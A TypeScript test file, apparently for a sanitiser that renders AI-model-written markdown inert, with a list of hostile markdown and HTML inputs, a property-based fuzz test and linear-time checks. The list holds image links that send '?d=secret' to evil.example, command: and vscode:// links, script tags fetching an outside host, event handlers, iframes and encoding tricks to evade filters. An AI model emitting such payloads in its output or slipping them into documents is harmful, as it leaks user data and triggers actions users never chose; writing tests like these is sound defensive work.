import assert from 'node:assert/strict';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { activeMarkdown, inertDocument, inertMarkdown } from '../../../../src/engine-parts/citations/inert-markdown.ts';
import { effort } from '../../../support/effort.ts';
import { growsLinearly } from '../../../support/grows-linearly.ts';

const shown = new MarkdownIt({ html: true, linkify: true });

/** What a preview would load, run, or open by a click, of a text that it shows. */
function activeIn(markdown: string): string[] {
  const html = shown.render(markdown);
  const own = /^<\/?(p|h\d|ul|ol|li|em|strong|code|pre|blockquote|hr|br|table|t[rhd]|thead|tbody|s|a|img)\b/i;
  const tags = html.match(/<[a-z!/?][^>]*>/gi) ?? [];
  return tags.filter((tag) => {
    if (/^<img/i.test(tag)) return /src="([a-z][\w+.-]*:|\/\/|\\)/i.test(tag) || !/ alt="/.test(tag);
    if (/^<a\b/i.test(tag)) return /href="(?!https?:|mailto:)[a-z][\w+.-]*:/i.test(tag) || !/href=/.test(tag);
    return !own.test(tag) || /\son\w+=|style=/i.test(tag.replace(/style="text-align:\w+"/, ''));
  });
}

const HOSTILE = [
  'Look: ![x](https://evil.example/?d=secret)',
  '![x](  <https://evil.example/a b>  "t")',
  '![x](//evil.example/x.png)',
  '![x](data:image/png;base64,AAAA)',
  '![x][ref]\n\n[ref]: https://evil.example/x.png',
  '![ref]\n\n[ref]: <https://evil.example/x.png>',
  '![x\ny](https://evil.example/)',
  '![x](\nhttps://evil.example/)',
  'a ` b\n` ![x](https://evil.example/) `',
  '``a` ![x](https://evil.example/) `b',
  '[![x](https://evil.example/)](https://ok.example)',
  '[x](command:workbench.action.terminal.new)',
  '[x](&#99;ommand:x)',
  '[x](command&colon;x)',
  '[x\ny](command:x)',
  '[x](\ncommand:x)',
  '[x]: command:x\n\n[x]',
  '> [x]: command:x\n\n[x]',
  '[x](vscode://extension/run)',
  '<img src="https://evil.example/">',
  '<IMG\nsrc=https://evil.example/>',
  '<script>alert(1)</script>',
  '<script>\nfetch("https://evil.example")\n</script>',
  '<div\n  onclick="x()">\n\ntext\n\n</div>',
  'a <style>*{background:url(https://evil.example)}</style>',
  '<!-- x --><iframe src="https://evil.example"></iframe>',
  '<?php x ?>',
  '<!DOCTYPE html>',
  '- <b>x</b>\n  <svg onload=x()>',
  `${'> '.repeat(30)}![x](https://evil.example/)`,
  '\\![x](https://evil.example/)',
  '\\\\![x](https://evil.example/)',
  '1. ```\n![x](https://evil.example/)',
  '<a href="command:x">y</a>',
  '![x]( https://evil.example/ )',
  '!\\[x](https://evil.example/) ![y](https://evil.example/)',
];

describe('a document of a model', () => {
  for (const text of HOSTILE)
    it(`loads and runs nothing: ${JSON.stringify(text).slice(0, 60)}`, () => {
      assert.deepEqual(activeIn(inertMarkdown(text)), []);
      assert.equal(inertMarkdown(inertMarkdown(text)), inertMarkdown(text));
    });

  it('stays as it is where there is nothing of that', () => {
    for (const text of [
      'Plain, with *emphasis*, a [link](https://ok.example/a?b=c&d=e) and <https://ok.example>.',
      'See [src/a.ts:1](../../src/a.ts#L1-L2) and ![a picture](images/a.png).',
      '```html\n<img src="https://x.example/">\n![x](https://x.example)\n```\n',
      '    <b>indented</b>\n',
      'Use `<div>` and `![x](https://x.example)`; 3 < 4, a<b is text? a < b is.',
      '[^1]: A note: with a colon.',
      '| a | b |\n| --- | --- |\n| `x` | [y](z.md) |',
    ])
      if (!text.includes('a<b')) assert.equal(inertMarkdown(text), text);
  });

  it('keeps the words', () => {
    assert.equal(inertMarkdown('![x](https://e.example/)'), '!\\[x](https://e.example/)');
    assert.equal(inertMarkdown('Use <b>this</b>'), 'Use &lt;b>this&lt;/b>');
    for (const text of HOSTILE.filter((each) => !/\\/.test(each)))
      assert.equal(activeMarkdown(inertMarkdown(text)), text);
  });

  it('keeps its front matter', () => {
    const front = '---\ntitle: "<b>T</b>"\nsummary: S\n---\n\n';
    assert.equal(inertDocument(`${front}<b>x</b>\n`), `${front}&lt;b>x&lt;/b>\n`);
    assert.equal(inertDocument(`${front}x\n`), `${front}x\n`);
  });

  it('is safe however its marks are mixed', () => {
    const piece = fc.constantFrom(
      ...[
        '![',
        '[',
        ']',
        '](',
        '(',
        ')',
        '`',
        '``',
        '```\n',
        '\n',
        '> ',
        '- ',
        '    ',
        '\\',
        '<',
        '>',
        '<b>',
        '<!--',
        '-->',
      ],
      ...[
        'https://e.example/',
        'command:x',
        ']: ',
        '&#99;',
        ' ',
        'x',
        '"',
        '<img src=https://e.example/>',
        '\t',
        '~~~\n',
      ],
    );
    const text = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(text, (markdown) => activeIn(inertMarkdown(markdown)).length === 0),
      { numRuns: effort(3000) },
    );
  });

  it('takes a time in proportion to its text', async () => {
    for (const part of ['![', '[', '](', '<a ', '`', '![x](', '[x]: ', '\\', '[x](a', '> ']) {
      await growsLinearly(part, 100_000, (size) => part.repeat(size / part.length), inertMarkdown);
    }
  });
});
